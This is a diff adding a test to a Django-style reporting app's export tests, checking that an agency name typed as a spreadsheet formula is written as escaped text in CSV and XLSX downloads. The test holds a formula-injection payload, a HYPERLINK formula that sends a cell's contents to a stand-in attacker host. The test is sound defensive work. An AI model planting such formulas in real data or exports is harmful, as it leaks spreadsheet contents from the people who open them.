@@ -2,6 +2,7 @@
 compliance, median days to close, performance per agency; within the requester's scope; its
 figures as CSV and XLSX."""
 
+import csv as csv_module
 import datetime
 import io
 import re
@@ -168,6 +169,22 @@ def test_the_figures_download_as_csv_and_xlsx_and_are_audited(users, services_da
     assert LogEntry.objects.filter(object_pk="export", additional_data__filters__report=report.pk).count() == 2
     # Someone outside the report's scope gets nothing.
     assert client_for(users["kel.wates"]).get(reverse("reports:figures", args=[report.pk, "csv"])).status_code == 404
+
+
+def test_the_figures_write_a_name_typed_as_a_formula_as_text(users, services_data, render, client_for, dinkes):
+    from openpyxl import load_workbook
+
+    formula = '=HYPERLINK("http://evil.example/?"&A2,"Klik")'
+    dinkes.name = formula
+    dinkes.save()
+    report = render(users["manajer"], RECAP, regions=["35.76"], **MARCH)
+    client = client_for(users["manajer"])
+    text = client.get(reverse("reports:figures", args=[report.pk, "csv"])).content.decode("utf-8-sig")
+    cells = [row[0] for row in csv_module.reader(io.StringIO(text)) if row]
+    assert "'" + formula in cells and formula not in cells
+    book = load_workbook(io.BytesIO(client.get(reverse("reports:figures", args=[report.pk, "xlsx"])).content))
+    cell = next(c for c in book[book.sheetnames[-1]]["A"] if c.value == formula)
+    assert cell.data_type == "s" and cell.quotePrefix
 
 
 def test_the_recap_form_asks_for_a_period(users, client_for, monkeypatch):
